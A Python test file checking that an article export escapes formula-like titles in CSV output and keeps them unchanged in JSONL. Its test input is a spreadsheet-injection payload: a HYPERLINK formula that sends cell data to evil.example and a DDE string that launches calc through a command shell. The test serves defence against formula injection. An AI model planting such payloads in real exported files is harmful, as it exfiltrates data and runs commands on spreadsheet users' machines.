"""Export to files for other programs: what a spreadsheet would carry out is text."""

import csv
import json
from pathlib import Path

import pytest

from tasks.export import export_articles
from tasks.lake import open_lake
from tasks.publish import publish
from tests.lake.staged import PASS, Doc, stage

STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
FORMULA = 'HYPERLINK("http://evil.example/?q="&A1,"点击")|\' /C calc\'!A0'


@pytest.mark.parametrize("form", ["csv", "jsonl"])
def test_hostile_title_is_no_formula_in_csv_and_unchanged_in_jsonl(root: Path, tmp_path: Path, form: str) -> None:
    names = [start + FORMULA for start in STARTS] + ["平常", "一=二", "'引"]
    publish(root, stage(root, [Doc(name) for name in names], text="=1+1"), PASS)
    export_articles(open_lake(root), tmp_path / "out", form)
    path = tmp_path / "out" / f"articles.{form}"
    if form == "jsonl":
        rows = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
        assert {row["title"] for row in rows} == {f"{name}新闻" for name in names}
        return
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == len(names)
    assert not [cell for row in rows for cell in row.values() if cell.startswith(STARTS)]
    safe = {f"'{name}新闻" if name.startswith(STARTS) else f"{name}新闻" for name in names}
    assert {row["title"] for row in rows} == safe
    assert {row["file_name"].removeprefix("'") for row in rows} == {f"{name}.txt" for name in names[:-1]} | {"引.txt"}
